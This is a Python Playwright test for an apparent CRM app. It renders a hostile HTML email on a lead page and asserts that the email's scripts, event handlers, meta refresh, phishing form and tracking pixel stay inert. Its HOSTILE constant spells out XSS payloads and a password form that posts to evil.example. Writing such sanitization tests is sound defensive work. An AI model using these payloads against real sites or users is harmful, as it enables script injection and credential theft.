"""The lead page in a real browser: a hostile email is shown as text and none of it runs."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path

from playwright.sync_api import ConsoleMessage, Dialog, Page, Request, expect
from sqlalchemy.orm import Session

from inboxcrm.accounts.models import Member
from tests.factories import (
    LeadFactory,
    MailboxFactory,
    MemberFactory,
    MessageFactory,
    ThreadFactory,
    ThreadLeadFactory,
)

T0 = dt.datetime(2026, 11, 2, 9, 0, tzinfo=dt.UTC)
HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script>window.top.document.title = "pwned"; alert("script tag")</script>
</head><body onload="alert('body onload')">
<p>Quarterly numbers attached, see below.</p>
<img src="x" onerror="window.top.document.title='pwned'">
<img src="https://tracker.example/pixel.gif" alt="tracker">
<a href="javascript:alert('link')" id="js">Open the report</a>
<svg onload="alert('svg')"><circle r="4"/></svg>
<math><mi xlink:href="javascript:alert('math')">x</mi></math>
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
<iframe srcdoc="<script>parent.parent.document.title='pwned'</script>"></iframe>
<div style="background:url(javascript:alert('css'))">styled</div>
<p>&lt;script&gt;alert("escaped")&lt;/script&gt; stays text.</p>
</body></html>"""


def test_a_hostile_email_is_shown_and_nothing_in_it_runs(
    page: Page,
    live_server: str,
    session: Session,
    tmp_path: Path,
    sign_in_as: Callable[[Member], None],
) -> None:
    rep = MemberFactory(name="Rita Rep")
    lead = LeadFactory(owner=rep, name="Mallory Sender", email="mallory@evil.example")
    thread = ThreadFactory(mailbox=MailboxFactory(member=rep), subject="Q3 numbers")
    ThreadLeadFactory(thread=thread, lead=lead)
    hostile = MessageFactory(
        thread=thread,
        at=T0,
        rfc="<h@evil.example>",
        html=HOSTILE,
        text=None,
        snippet="Quarterly numbers",
    )
    plain = MessageFactory(
        thread=thread,
        at=T0 + dt.timedelta(hours=1),
        rfc="<p@team.example>",
        inbound=False,
        text="<script>alert('plain')</script> Thanks, we will look.",
        snippet="Thanks, we will look.",
    )
    dialogs: list[str] = []
    errors: list[str] = []
    bodies: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def on_console(message: ConsoleMessage) -> None:
        # Resources that fail (no favicon; no internet for the tracker) are not code running.
        if message.type == "error" and not message.text.startswith("Failed to load resource"):
            errors.append(message.text)

    def on_request(request: Request) -> None:
        if "/body" in request.url or "tracker.example" in request.url:
            bodies.append(request.url)

    page.on("dialog", on_dialog)
    page.on("console", on_console)
    page.on("request", on_request)
    sign_in_as(rep)

    page.goto(f"{live_server}/leads/{lead.id}")
    title = page.title()
    expect(page.get_by_role("heading", name="Q3 numbers")).to_be_visible()
    expect(page.get_by_text("Quarterly numbers", exact=True)).to_be_visible()  # the snippet
    assert bodies == []  # bodies load when opened, not with the page

    first = page.locator(f'[data-message="{hostile.id}"]')
    first.get_by_text("Show message").click()
    frame = page.frame_locator(f'iframe[name="body-{hostile.id}"]')
    expect(frame.get_by_text("Quarterly numbers attached, see below.")).to_be_visible()
    expect(frame.get_by_text('<script>alert("escaped")</script> stays text.')).to_be_visible()
    expect(frame.locator("form, input, script, svg, iframe")).to_have_count(0)
    # A click on the defanged link goes nowhere.
    frame.get_by_text("Open the report").click()

    # The body, opened, takes the snippet's place, and its frame fits it.
    expect(first.get_by_text("Quarterly numbers", exact=True)).to_be_hidden()
    box = first.locator("iframe").bounding_box()
    assert box is not None
    assert 60 < box["height"] < 320  # fitted: shorter than the default, taller than a line
    second = page.locator(f'[data-message="{plain.id}"]')
    second.get_by_text("Show message").click()
    plain_frame = page.frame_locator(f'iframe[name="body-{plain.id}"]')
    expect(plain_frame.get_by_text("<script>alert('plain')</script> Thanks")).to_be_visible()
    short = second.locator("iframe").bounding_box()
    assert short is not None
    assert short["height"] < box["height"]  # one line: a shorter frame

    # Remote images only on request: the link reloads the frame with them allowed.
    assert not [url for url in bodies if "tracker.example" in url]
    with page.expect_response(lambda r: r.url.endswith("/body?images=1")) as reloaded:
        first.get_by_text("Show images").click()
    assert reloaded.value.status == 200
    expect(frame.get_by_text("Quarterly numbers attached, see below.")).to_be_visible()
    expect(frame.locator('img[src="https://tracker.example/pixel.gif"]')).to_have_count(1)

    body_frame = next(f for f in page.frames if f.name == f"body-{hostile.id}")
    assert "/messages/" in body_frame.url  # no meta refresh took it elsewhere
    assert page.url == f"{live_server}/leads/{lead.id}"
    assert page.title() == title != "pwned"
    assert dialogs == []
    assert errors == []
    page.screenshot(path=str(tmp_path / "lead.png"), full_page=True)
